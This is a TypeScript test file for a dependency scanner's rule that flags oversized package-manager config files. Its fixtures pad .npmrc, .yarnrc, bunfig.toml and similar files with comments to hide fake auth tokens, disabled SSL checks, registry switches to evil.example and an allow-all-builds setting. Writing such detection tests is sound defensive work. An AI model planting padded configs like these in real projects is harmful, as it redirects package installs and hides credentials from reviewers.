import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runMain } from '../helpers/cli.js';
import { MAX_MANIFEST_BYTES, MAX_NPMRC_BYTES } from '../../src/deps/read.js';

interface Reported {
  ruleId: string;
  location: { path: string };
  evidence?: Record<string, unknown>;
}

/** A comment line repeated past `bytes`, then `tail`: the shape of a file padded to hide its last lines. */
function padded(bytes: number, tail: string): string {
  return `#${'x'.repeat(79)}\n`.repeat(Math.ceil(bytes / 80) + 1) + tail;
}

const LOCK = JSON.stringify({
  name: 'app',
  version: '1.0.0',
  lockfileVersion: 3,
  requires: true,
  packages: { '': { name: 'app', version: '1.0.0' } },
});

interface Scanned {
  code: number;
  findings: Reported[];
  notifications: { message: string; path?: string }[];
  out: string;
}

async function scan(dir: string, failOn: string): Promise<Scanned> {
  const r = await runMain(['scan', dir, '--offline', '--quiet', '--no-progress', '-f', 'json', '--fail-on', failOn]);
  const { findings, notifications } = JSON.parse(r.stdout) as Pick<Scanned, 'findings' | 'notifications'>;
  return { code: r.code, findings, notifications, out: r.stdout + r.stderr };
}

/**
 * CPD169: npm reads a `.npmrc` of any size (@npmcli/config `#loadFile` → `ini.parse` of the whole text), yarn 1 any
 * `.yarnrc`, yarn 2+ any `.yarnrc.yml`, bun any bunfig.toml, pnpm any pnpm-workspace.yaml. A file past the bound
 * chainproof reads them to is a finding that fails the default gate, once per file with its size — not a
 * notification that lets padding hide a committed token or a registry switch.
 */
describe('a package-manager configuration too large to read (CPD169)', () => {
  it('a padded .npmrc hiding a token fails the default gate, and is all that is reported', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'cp-cfg-gate-'));
    await writeFile(path.join(dir, 'package.json'), '{"name":"app","version":"1.0.0"}\n');
    await writeFile(path.join(dir, 'package-lock.json'), LOCK);
    const npmrc = padded(MAX_NPMRC_BYTES, '//registry.npmjs.org/:_authToken=npm_MadeUpHidden0\nstrict-ssl=false\n');
    await writeFile(path.join(dir, '.npmrc'), npmrc);

    const r = await scan(dir, 'error');
    expect(r.code).toBe(1);
    expect(r.findings).toMatchObject([
      { ruleId: 'CPD169', location: { path: '.npmrc' }, evidence: { size: Buffer.byteLength(npmrc) } },
    ]);
  });

  it('needs no lockfile: a library that commits only its padded .npmrc', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'cp-cfg-nolock-'));
    await writeFile(path.join(dir, 'package.json'), '{"name":"lib","version":"1.0.0"}\n');
    await writeFile(path.join(dir, '.npmrc'), padded(MAX_NPMRC_BYTES, '_authToken=npm_MadeUpHidden4\n'));

    const r = await scan(dir, 'error');
    expect(r.code).toBe(1);
    expect(r.findings.map((f) => `${f.ruleId}@${f.location.path}`)).toEqual(['CPD169@.npmrc']);
  });

  it('each padded config file is one CPD169 with its size, no CPD153 besides; a file at the bound is read', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'cp-cfg-large-'));
    await mkdir(path.join(dir, 'berry'));
    await mkdir(path.join(dir, 'bun'));
    await writeFile(path.join(dir, 'package.json'), '{"name":"app","version":"1.0.0"}\n');
    await writeFile(path.join(dir, 'package-lock.json'), LOCK);
    const npmrc = padded(MAX_NPMRC_BYTES, '//registry.npmjs.org/:_authToken=npm_MadeUpHidden1\nstrict-ssl=false\n');
    await writeFile(path.join(dir, '.npmrc'), npmrc);
    await writeFile(path.join(dir, '.yarnrc'), padded(MAX_NPMRC_BYTES, 'registry "https://evil.example/"\n'));
    await writeFile(
      path.join(dir, 'pnpm-workspace.yaml'),
      padded(MAX_MANIFEST_BYTES, 'dangerouslyAllowAllBuilds: true\n'),
    );
    await writeFile(path.join(dir, 'berry', 'yarn.lock'), '__metadata:\n  version: 8\n');
    await writeFile(path.join(dir, 'berry', '.yarnrc.yml'), padded(MAX_NPMRC_BYTES, 'npmAuthToken: MadeUpHidden2\n'));
    await writeFile(
      path.join(dir, 'bun', 'bunfig.toml'),
      padded(MAX_NPMRC_BYTES, '[install]\nregistry = "https://evil.example/"\n'),
    );
    // Exactly at the bound is read as usual.
    await mkdir(path.join(dir, 'ok'));
    const atBound = '//registry.npmjs.org/:_authToken=npm_MadeUpSeen3\n';
    await writeFile(path.join(dir, 'ok', '.npmrc'), '#'.repeat(MAX_NPMRC_BYTES - atBound.length - 1) + '\n' + atBound);

    const gated = await scan(dir, 'none');
    const large = gated.findings.filter((f) => f.ruleId === 'CPD169');
    expect(large.map((f) => f.location.path)).toEqual([
      '.npmrc',
      '.yarnrc',
      'berry/.yarnrc.yml',
      'bun/bunfig.toml',
      'pnpm-workspace.yaml',
    ]);
    expect(large[0]!.evidence).toEqual({ size: Buffer.byteLength(npmrc), limit: MAX_NPMRC_BYTES });
    expect(gated.findings.filter((f) => f.ruleId === 'CPD153')).toEqual([]);
    expect(gated.findings.filter((f) => f.ruleId === 'CPD168').map((f) => f.location.path)).toEqual(['ok/.npmrc']);
    expect(gated.out).not.toMatch(/MadeUp/);
  });

  it('needs no lockfile for a padded .yarnrc or pnpm-workspace.yaml either', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'cp-cfg-nolock-other-'));
    await writeFile(path.join(dir, 'package.json'), '{"name":"lib","version":"1.0.0"}\n');
    await writeFile(path.join(dir, '.yarnrc'), padded(MAX_NPMRC_BYTES, 'registry "https://evil.example/"\n'));
    await writeFile(
      path.join(dir, 'pnpm-workspace.yaml'),
      padded(MAX_MANIFEST_BYTES, 'dangerouslyAllowAllBuilds: true\n'),
    );

    const r = await scan(dir, 'error');
    expect(r.code).toBe(1);
    expect(r.findings.map((f) => `${f.ruleId}@${f.location.path}`)).toEqual([
      'CPD169@.yarnrc',
      'CPD169@pnpm-workspace.yaml',
    ]);
  });

  it('a lockfile that reads a padded config adds no notification beside its CPD169', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'cp-cfg-once-'));
    const lockfiles: Record<string, string> = {
      npm: LOCK,
      yarn: '# yarn lockfile v1\n\n',
      pnpm: "lockfileVersion: '9.0'\n",
      bun: '{"lockfileVersion": 1, "workspaces": {"": {"name": "app"}}, "packages": {}}\n',
    };
    const names = { npm: 'package-lock.json', yarn: 'yarn.lock', pnpm: 'pnpm-lock.yaml', bun: 'bun.lock' };
    const configs = { npm: '.npmrc', yarn: '.yarnrc', pnpm: 'pnpm-workspace.yaml', bun: 'bunfig.toml' };
    for (const pm of ['npm', 'yarn', 'pnpm', 'bun'] as const) {
      await mkdir(path.join(dir, pm));
      await writeFile(path.join(dir, pm, 'package.json'), '{"name":"app","version":"1.0.0"}\n');
      await writeFile(path.join(dir, pm, names[pm]), lockfiles[pm]!);
      const bound = pm === 'pnpm' ? MAX_MANIFEST_BYTES : MAX_NPMRC_BYTES;
      await writeFile(path.join(dir, pm, configs[pm]), padded(bound, 'registry=https://evil.example/\n'));
    }

    const r = await scan(dir, 'none');
    expect(r.findings.filter((f) => f.ruleId === 'CPD169').map((f) => f.location.path)).toEqual([
      'bun/bunfig.toml',
      'npm/.npmrc',
      'pnpm/pnpm-workspace.yaml',
      'yarn/.yarnrc',
    ]);
    expect(r.findings.filter((f) => f.ruleId === 'CPD001')).toEqual([]);
    expect(
      r.notifications.filter(
        (n) => n.path !== undefined && /\/(\.npmrc|\.yarnrc|pnpm-workspace\.yaml|bunfig\.toml)$/.test(n.path),
      ),
    ).toEqual([]);
  });
});
